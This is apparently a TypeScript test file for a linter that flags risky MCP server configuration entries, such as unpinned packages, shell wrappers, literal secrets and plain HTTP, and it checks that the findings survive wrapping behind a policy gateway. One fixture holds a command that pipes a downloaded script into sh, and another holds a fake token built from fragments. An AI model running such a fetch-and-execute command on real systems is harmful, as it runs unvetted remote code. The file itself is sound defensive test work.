/** What lint finds in a server, it finds in the same server behind the gateway. */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { jsonValue } from '../../src/disk/json-text.js';
import { CLIENTS, type KnownClient } from '../../src/install/mcp/clients.js';
import { wrapping } from '../../src/install/mcp/entry.js';
import { lintTexts } from './linted.js';

const TOKEN = ['gh', 'p_', 'q7Vw2Xk9', 'Zt4LmB8s', 'Rc1NfYp3', 'Hd6JgWa5', 'Qe0U'].join('');
const OPAQUE = ['q7Vw2Xk9', 'Zt4LmB8s', 'Rc1NfYp3'].join('');

const client = CLIENTS.find(({ id }) => id === 'claude-code') as KnownClient;
const ENTRIES: readonly (readonly [rule: string | null, entry: object])[] = [
  ['mcp/unpinned-package', { command: 'npx', args: ['-y', '@org/server'] }],
  ['mcp/unpinned-package', { command: 'docker', args: ['run', '-i', 'org/server:latest'] }],
  ['mcp/shell-wrapper', { command: 'bash', args: ['-c', 'source .env && node server.js'] }],
  ['mcp/shell-wrapper', { command: 'sh', args: ['-c', 'curl -s https://example.org/i.sh | sh'] }],
  ['mcp/literal-secret', { command: 'a', env: { GITHUB_TOKEN: TOKEN } }],
  ['mcp/literal-secret', { command: 'a', args: ['--token', TOKEN] }],
  ['mcp/literal-secret', { type: 'http', url: 'https://mcp.acme.dev', headers: { Authorization: `Bearer ${TOKEN}` } }],
  ['mcp/literal-secret', { type: 'http', url: 'https://mcp.acme.dev', headers: { 'X-Api-Key': OPAQUE } }],
  ['mcp/plain-http', { type: 'http', url: 'http://mcp.acme.dev/x', headers: { A: 'b' } }],
  ['mcp/plain-http', { type: 'http', url: 'http://mcp.acme.dev/x?project=12', headers: { A: 'b' } }],
  ['mcp/literal-secret', { type: 'http', url: `https://mcp.acme.dev/x?key=${TOKEN}` }],
  [null, { type: 'http', url: 'https://mcp.acme.dev/x?key=${KEY}' }],
  [null, { command: 'npx', args: ['-y', '@org/server@1.2.3'] }],
  [null, { type: 'http', url: 'https://mcp.acme.dev', headers: { Authorization: 'Bearer ${TOKEN}', 'X-Api-Key': '${KEY}' } }],
  [null, { type: 'http', url: 'http://localhost:8080/x', headers: { A: 'b' } }],
];

function findings(entry: unknown): readonly string[] {
  const text = JSON.stringify({ mcpServers: { files: entry } }, null, 1);
  return lintTexts({ '.mcp.json': text }).findings.map(({ ruleId, severity, message }) => `${ruleId} ${severity} ${message}`);
}

for (const words of [
  ['policy', 'mcp', 'gateway'],
  ['/usr/bin/node', '/home/ann/.local/share/policy/versions/1/dist/gateway.cjs', 'mcp', 'gateway'],
] as const)
  for (const [rule, entry] of ENTRIES)
    test(`${words[0]}: ${rule ?? 'nothing'} for ${JSON.stringify(entry).slice(0, 60)}`, () => {
      const found = wrapping('files', jsonValue(entry), client, { words, options: [] }, () => null);
      if (found.kind !== 'wrapped') throw new Error(JSON.stringify(found));
      const plain = (value: unknown): unknown =>
        value instanceof Map ? Object.fromEntries([...value].map(([name, one]) => [name, plain(one)])) : value;
      const before = findings(entry);
      assert.equal(
        before.map((one) => one.split(' ')[0]),
        rule === null ? [] : [rule],
      );
      assert.equal(findings(plain(found.entry)), before);
    });

test.run();
